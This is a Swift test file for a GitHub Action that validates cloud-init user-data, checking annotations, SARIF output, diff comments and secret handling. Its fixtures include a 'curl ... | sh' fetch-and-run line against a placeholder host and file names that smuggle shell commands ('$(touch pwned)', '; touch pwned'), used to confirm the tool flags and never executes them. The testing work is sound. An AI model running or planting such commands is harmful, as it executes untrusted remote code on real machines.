import Foundation
import TestSupport
import Testing

/// The GitHub Action, its steps run with the real program, git and bash. The runner is a stand-in (action_runner.py).
@Suite("The GitHub Action") struct ActionTests {
  private struct Step: Decodable {
    var name: String
    var ran: Bool
    var status: Int?
    var log: String?
    var with: [String: String]?
    var files: [String: String]?
  }

  private struct Job: Decodable {
    var steps: [Step]
    var outputs: [String: String]
    var failed: Bool
    var comment: String
    var files: [String: String]
    var summary: String

    func step(_ name: String) throws -> Step { try #require(steps.first { $0.name == name }) }
    func log(_ name: String) throws -> String { try #require(step(name).log) }
    var ran: [String] { steps.filter(\.ran).map(\.name) }
  }

  private static let faulty = "#cloud-config\nruncmd:\n- curl -s https://x.example.net | sh\n"
  private static let canary = "cfut_Canary0Canary0Canary0Canary0Canary01234"

  private static func outputs(token: Bool = false) throws -> String {
    let text = try String(
      contentsOf: Tool.root.appendingPathComponent("examples/oci-vault/outputs.json"), encoding: .utf8)
    guard token else { return text }
    return #"""
      {"server_private_ip": "10.0.2.10", "git_repo_url": "https://git.example.net/a.git",
       "cloudflare_api_token": "\#(canary)"}
      """#
  }

  /// Runs the action in a repository whose first commit has the files `base`, and whose second has `files` besides.
  private func run(
    _ inputs: [String: String], base: [String: String] = ["README": "x"], _ files: [String: String] = [:],
    comparing: Bool = true, after: (URL) throws -> Void = { _ in }
  ) async throws -> Job {
    try await withTemporaryDirectory { folder in
      func commit(_ files: [String: String]) async throws {
        for (path, text) in files {
          let file = folder.appendingPathComponent(path)
          try FileManager.default.createDirectory(
            at: file.deletingLastPathComponent(), withIntermediateDirectories: true)
          try Data(text.utf8).write(to: file)
        }
        for arguments in [["add", "--all"], ["commit", "--quiet", "--allow-empty", "--message", "a"]] {
          let outcome = try await Tool.run(
            ["git", "-c", "user.name=a", "-c", "user.email=a@example.net"] + arguments, directory: folder.path
          )
          try #require(outcome.status == 0, "\(outcome.errors)")
        }
      }
      _ = try await Tool.run(["git", "init", "--quiet"], directory: folder.path)
      try await commit(base)
      let first = try await Tool.run(["git", "rev-parse", "HEAD"], directory: folder.path)
      try await commit(files)
      let sha = comparing ? first.text.trimmingCharacters(in: .whitespacesAndNewlines) : ""
      let request: [String: Any] = [
        "inputs": inputs.merging(["program": Tool.k3seed]) { given, _ in given },
        "github": ["event": ["pull_request": ["base": ["sha": sha]]]],
        "environment": ["K3SEED_CACHE": folder.appendingPathComponent(".git/cache").path],
      ]
      let outcome = try await Tool.run(
        [
          "python3", Tool.root.appendingPathComponent("Tests/ContractTests/action_runner.py").path,
          Tool.root.path, folder.path,
        ], input: Array(try JSONSerialization.data(withJSONObject: request)))
      try #require(outcome.status == 0, "\(outcome.errors)")
      try after(folder)
      return try JSONDecoder().decode(Job.self, from: Data(outcome.output))
    }
  }

  @Test("It is what GitHub's schema for actions asks for")
  func schema() async throws {
    let outcome = try await Tool.run(
      ["check-jsonschema", "--builtin-schema", "vendor.github-actions", "action.yml"],
      directory: Tool.root.path)
    #expect(outcome.status == 0, "\(outcome.text)")
  }

  @Test("The documented workflow is one by GitHub's schema, and gives the action what it takes")
  func documented() async throws {
    let page = try String(
      contentsOf: Tool.root.appendingPathComponent("Sources/K3Seed/K3Seed.docc/GitHubAction.md"),
      encoding: .utf8)
    let workflow = try #require(page.components(separatedBy: "```yaml\n").dropFirst().first)
      .components(separatedBy: "```")[0]
    try await withTemporaryDirectory { folder in
      let file = folder.appendingPathComponent("workflow.yml")
      try Data(workflow.utf8).write(to: file)
      let outcome = try await Tool.run([
        "check-jsonschema", "--builtin-schema", "vendor.github-workflows", file.path,
      ])
      #expect(outcome.status == 0, "\(outcome.text)")
      let names = try await Tool.run([
        "python3", "-c",
        """
        import sys, yaml
        action, workflow = (yaml.safe_load(open(path)) for path in sys.argv[1:])
        steps = workflow["jobs"]["k3seed"]["steps"]
        given = next(step["with"] for step in steps if "/k3seed@" in step.get("uses", ""))
        print(sorted(set(given) - set(action["inputs"])))
        """, Tool.root.appendingPathComponent("action.yml").path, file.path,
      ])
      #expect(names.text == "[]\n", "\(names.errors)")
    }
  }

  @Test("zizmor finds nothing in it: no value is pasted into a command, and actions are pinned by their hash")
  func audited() async throws {
    let audit = ["zizmor", "--offline", "--persona", "pedantic", "--quiet"]
    let outcome = try await Tool.run(audit + ["action.yml"], directory: Tool.root.path)
    #expect(outcome.status == 0, "\(outcome.text)\(outcome.errors)")

    // It does find such a thing where there is one.
    try await withTemporaryDirectory { folder in
      let file = folder.appendingPathComponent("action.yml")
      let text = try String(contentsOf: Tool.root.appendingPathComponent("action.yml"), encoding: .utf8)
      let pasted = text.replacingOccurrences(
        of: #"'"$GITHUB_ACTION_PATH/scripts/action" render'"#, with: "k3seed render ${{ inputs.input }}")
      try #require(pasted != text)
      try Data(pasted.utf8).write(to: file)
      #expect(try await Tool.run(audit + [file.path]).status != 0)
    }
  }

  @Test("What is wrong is annotated, goes to code scanning, and fails the job at its end")
  func finds() async throws {
    let job = try await run(
      ["files": "deploy/**/*.yaml\n"],
      ["deploy/a/user data.yaml": Self.faulty, "deploy/good.yaml": "#cloud-config\npackages: [jq]\n"])
    #expect(job.ran == ["Build", "Validate", "Findings to code scanning", "Verdict"])
    #expect(
      try job.log("Validate").contains(
        "::error file=deploy/a/user data.yaml,line=3,col=3,title=curl-pipe-shell::"))
    let sarif = try #require(try job.step("Findings to code scanning").files?["sarif_file"])
    #expect(sarif.contains(#""curl-pipe-shell""#) && sarif.contains("deploy/a/user%20data.yaml"))
    #expect(job.failed)
    #expect(try job.log("Verdict") == "k3seed: validate: exit code 1\n")
  }

  @Test("Nothing wrong: the SARIF is empty of results, and the job passes")
  func passes() async throws {
    let job = try await run(
      ["files": "a.yaml", "strict": "true"], ["a.yaml": "#cloud-config\npackages: [jq]\n"])
    #expect(!job.failed)
    #expect(
      try job.step("Findings to code scanning").files?["sarif_file"]?.contains(#""results": []"#) == true)
    #expect(try job.log("Verdict") == "k3seed: nothing is wrong\n")
  }

  @Test("Warnings fail only where that is asked for; findings stay away from code scanning where it is not")
  func strict() async throws {
    let files = ["a.yaml": "#cloud-config\nruncmd: [a, b]\n"]
    #expect(try await !run(["files": "a.yaml"], files).failed)
    let job = try await run(["files": "a.yaml", "strict": "true", "upload-sarif": "false"], files)
    #expect(job.failed && job.ran == ["Build", "Validate", "Verdict"])
  }

  @Test("A pattern that nothing matches fails, and the others are validated all the same")
  func unmatched() async throws {
    let job = try await run(["files": "nowhere/*.yaml\na.yaml"], ["a.yaml": Self.faulty])
    #expect(try job.log("Validate").contains("files: nothing matches nowhere/*.yaml\n"))
    #expect(
      try job.log("Verdict")
        == "k3seed: files: nothing matches nowhere/*.yaml\nk3seed: validate: exit code 1\n")
  }

  @Test(
    "Names and patterns are never run",
    arguments: ["$(touch pwned).yaml", "`touch pwned`.yaml", "; touch pwned", "--help", "a b\tc.yaml"])
  func hostile(name: String) async throws {
    let job = try await run(["files": name], [name: Self.faulty]) { folder in
      #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("pwned").path))
    }
    #expect(try job.log("Validate").contains("title=curl-pipe-shell"), "\(job)")
  }

  @Test("A pull request's change of user-data is the body of a comment")
  func compares() async throws {
    let job = try await run(
      ["input": "outputs.json", "config": "k3seed.yaml"],
      base: ["outputs.json": try Self.outputs(), "k3seed.yaml": "git_revision: main\n"],
      ["k3seed.yaml": "git_revision: v2\n"])
    #expect(!job.failed, "\(job.steps)")
    #expect(job.outputs["changed"] == "true")
    #expect(job.comment == job.summary)
    #expect(job.comment.hasPrefix("### k3seed: how user-data changes\n"))
    for text in ["\n#### server\n", "\n#### ingress\n", "targetRevision"] {
      #expect(job.comment.contains(text), "\(text): \(job.comment)")
    }
  }

  @Test("Where nothing changes, nothing is said to")
  func unchanged() async throws {
    let job = try await run(["input": "outputs.json"], base: ["outputs.json": try Self.outputs()])
    #expect(job.outputs["changed"] == "false" && !job.failed)
    #expect(job.comment.contains("#### server") && !job.comment.contains("->"), "\(job.comment)")
  }

  @Test("A node that comes or goes is named")
  func nodes() async throws {
    func fleet(_ names: [String]) -> [String: String] {
      let nodes = names.map { #""\#($0)": {"role": "\#($0 == "server" ? "server" : "agent")"}"# }
      return [
        "outputs.json": """
        {"server_private_ip": "10.0.2.10", "git_repo_url": "https://git.example.net/a.git", "nodes": \
        {\(nodes.joined(separator: ", "))}, "secret_ocids": {"cloudflare_api_token": \
        "ocid1.vaultsecret.oc1.iad.example1", "k3s_token": "ocid1.vaultsecret.oc1.iad.example2"}}
        """
      ]
    }
    let job = try await run(
      ["input": "outputs.json"], base: fleet(["server", "old"]), fleet(["server", "new"]))
    #expect(job.comment.contains("#### new\n\nA new node.\n"), "\(job)")
    #expect(job.comment.contains("#### old\n\nThis node is gone.\n"))
    #expect(job.outputs["changed"] == "true")
  }

  @Test("A base that cannot be rendered is said, and is not the change's fault")
  func unrenderable() async throws {
    let job = try await run(
      ["input": "outputs.json"], base: ["outputs.json": "{"], ["outputs.json": try Self.outputs()])
    #expect(!job.failed)
    #expect(job.comment.contains("cannot be rendered with this version of k3seed, so nothing is compared"))
  }

  @Test("Outside of a pull request nothing is compared")
  func push() async throws {
    let job = try await run(
      ["input": "outputs.json"], ["outputs.json": try Self.outputs()], comparing: false)
    #expect(!job.failed)
    #expect(job.ran == ["Build", "Validate", "Findings to code scanning", "Render", "Verdict"])
  }

  @Test("Inputs that cannot be rendered fail, each finding at its place, and nothing is compared or booted")
  func refused() async throws {
    let job = try await run(
      ["input": "outputs.json", "verify": "debian-12"], ["outputs.json": #"{"cluster_name": "a b"}"#])
    #expect(job.failed && job.ran.last == "Verdict" && !job.ran.contains("Verify"))
    #expect(try job.log("Validate").contains("::error file=outputs.json,line=1,col=18,title=input-value::"))
    #expect(try job.log("Verdict").contains("k3seed: render: exit code 2\n"))
  }

  @Test("A literal secret is in the rendered user-data alone, for its owner")
  func secrets() async throws {
    let job = try await run(
      ["input": "outputs.json"], base: ["outputs.json": try Self.outputs(token: true)],
      ["outputs.json": try Self.outputs(token: true).replacingOccurrences(of: "/a.git", with: "/b.git")])
    #expect(!job.failed, "\(job.steps)")
    #expect(job.comment.contains("$.spec.source.repoURL  changed"), "\(job.comment)")
    let told =
      [job.comment, job.summary] + job.steps.flatMap { [$0.log ?? ""] + ($0.files ?? [:]).values }
    #expect(!told.joined().contains(Self.canary))
    let folder = try #require(job.files.first { !$0.key.contains("/") })
    #expect(folder.value == "0o700")
    #expect(job.files["\(folder.key)/new/server.yaml"] == "0o600", "\(job.files)")
  }

  @Test("Without its image nothing can be booted, and that fails, with reports or without")
  func verifies() async throws {
    let job = try await run(
      ["input": "outputs.json", "verify": "./nowhere.qcow2"], ["outputs.json": try Self.outputs()])
    #expect(job.failed && job.ran.suffix(3) == ["Verify", "Reports", "Verdict"], "\(job.ran)")
    #expect(try job.log("Verify").contains("nowhere.qcow2"))
    #expect(try job.log("Verdict").hasPrefix("k3seed: verify: exit code "))
  }

  @Test("A program that is not there is said at once")
  func absent() async throws {
    let job = try await run(["files": "a", "program": "nowhere/k3seed"], ["a": Self.faulty])
    #expect(job.failed && job.ran == ["Build"])
    #expect(
      try job.log("Build") == "the program of the input \"program\" is not here\n")
  }
}
